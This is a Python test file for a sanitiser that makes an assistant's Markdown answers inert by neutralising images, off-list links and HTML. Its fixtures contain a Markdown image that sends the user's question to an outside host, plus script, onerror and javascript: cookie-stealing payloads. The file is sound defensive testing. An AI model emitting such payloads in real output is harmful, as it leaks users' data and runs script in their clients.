"""Answer text made inert: a client that renders it as Markdown fetches no image, follows no link outside the
allow-list and runs no HTML, and the notes say what was changed."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from assistant.answering.hygiene import IMAGE, LINK, MARKUP, inert
from tests.fixtures.markdown_render import live_parts

EXFILTRATION = "![status](http://stats.example.net/log?q=what+the+user+asked)"


@pytest.mark.parametrize(
    ("text", "shown", "notes"),
    [
        (f"It is 31 m tall [1]. {EXFILTRATION}", "It is 31 m tall [1]. (image: status)", (IMAGE,)),
        ("It boils <script>alert(1)</script>fast [1].", "It boils fast [1].", (MARKUP,)),
        ("A steel body <img src=x onerror=alert(1)> [2].", "A steel body [2].", (MARKUP,)),
        ("See [the manual](javascript:alert(document.cookie)) [1].", "See the manual [1].", (LINK,)),
        ("Sold at http://shop.example.org/lids [1].", "Sold at `http://shop.example.org/lids` [1].", (LINK,)),
        ("Write to <https://help.example.org/a> now.", "Write to `https://help.example.org/a` now.", (LINK,)),
        ("[1]: http://e.example/x.png\nIt exploded [1]!", "1: `http://e.example/x.png`\nIt exploded [1]!", (LINK,)),
        ("[![a](http://i.example/x.png)](http://e.example/)", "(image: a)", (IMAGE, LINK)),
        ("!<b>[a](http://u.example/x.png)</b>", "(image: a)", (IMAGE, MARKUP)),
        ("Plain: a < b and c > d, <3, markers [1, 2].", "Plain: a < b and c > d, <3, markers [1, 2].", ()),
        # Tags and link destinations outrank code spans (CommonMark): what looks like code is cleaned too.
        ("Code `http://x.example/a?b` here.", "Code ` ``http://x.example/a?b`` ` here.", (LINK,)),
        ("Code `<b>x</b>` stays code.", "Code `x` stays code.", (MARKUP,)),
        ("Code `[t](http://x.example)` too.", "Code `t` too.", (LINK,)),
        ("It`s at http://y.example", "It`s at ``http://y.example``", (LINK,)),
    ],
)
def test_images_links_and_markup_are_shown_as_text(text: str, shown: str, notes: tuple[str, ...]) -> None:
    result = inert(text)
    assert (result.text, result.notes) == (shown, notes)
    assert not live_parts(result.text)


def test_links_to_allowed_hosts_stay_live_and_images_never_do() -> None:
    text = (
        "See [the guide](https://docs.example.com/guide) or https://sub.docs.example.com/x [1]. "
        "Not [this](https://docs.example.com.evil.net/) nor ![logo](https://docs.example.com/logo.png)."
    )
    result = inert(text, ["docs.example.com"])
    assert "[the guide](https://docs.example.com/guide)" in result.text
    assert "https://sub.docs.example.com/x [1]" in result.text
    assert "Not this nor (image: logo)." in result.text
    assert result.notes == (IMAGE, LINK)
    assert not live_parts(result.text, ("docs.example.com", "sub.docs.example.com"))


FRAGMENTS = st.sampled_from(
    [
        "word",
        " ",
        "\n",
        "[1]",
        "!",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "`",
        "``",
        ":",
        "/",
        '"',
        EXFILTRATION,
        "http://e.example/x?q=1",
        "www.e.example",
        "<http://e.example>",
        "[t](http://e.example)",
        "](http://e.example/y.png)",
        "[r]: http://e.example/z",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<a href='javascript:x'>",
        "<!-- c -->",
        "javascript:alert(1)",
        "<b>",
        "\\\\",
        "> ",
        "- ",
        "    ",
        "\n\n",
        "_",
        "*",
        "&#60;img src=x>",
        "</b>",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, max_size=14).map("".join))
@example("[1](javascript:alert(1)")  # found by this test: a script link that no ')' closes
def test_no_mix_of_fragments_renders_anything_live(text: str) -> None:
    result = inert(text)
    assert not live_parts(result.text), result.text
